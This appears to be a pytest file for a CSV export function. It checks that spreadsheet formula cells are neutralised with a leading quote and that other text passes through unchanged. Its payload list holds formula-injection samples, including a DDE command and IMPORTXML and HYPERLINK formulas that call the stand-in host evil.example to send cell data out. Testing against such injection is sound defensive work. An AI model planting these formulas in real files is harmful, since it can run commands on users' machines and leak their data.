"""Tests of files for people: what a spreadsheet would run stays text, and nothing else is changed."""

import csv
import io

import pytest

from catalogue.exporting import csv_file

PAYLOADS = (
    '=HYPERLINK("http://evil.example","click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",  # noqa: RUF001 -- the wide form counts as well
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
)


def cells_of(file: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_a_spreadsheet_would_run_is_made_a_text(payload: str) -> None:
    assert cells_of(csv_file(["x"], [[payload]])) == [["x"], [f"'{payload}"]]


@pytest.mark.parametrize("text", ["Dune", "1-2", " =1", "'=1", "a\nb", '"q"', "a,b", "ノルウェイの森", ""])
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert cells_of(csv_file(["x", "y"], [[text, "z"]])) == [["x", "y"], [text, "z"]]


def test_numbers_stay_numbers_and_nothing_is_an_empty_cell() -> None:
    assert csv_file(["a", "b"], [[-5, None]]) == "\ufeffa,b\r\n-5,\r\n".encode()
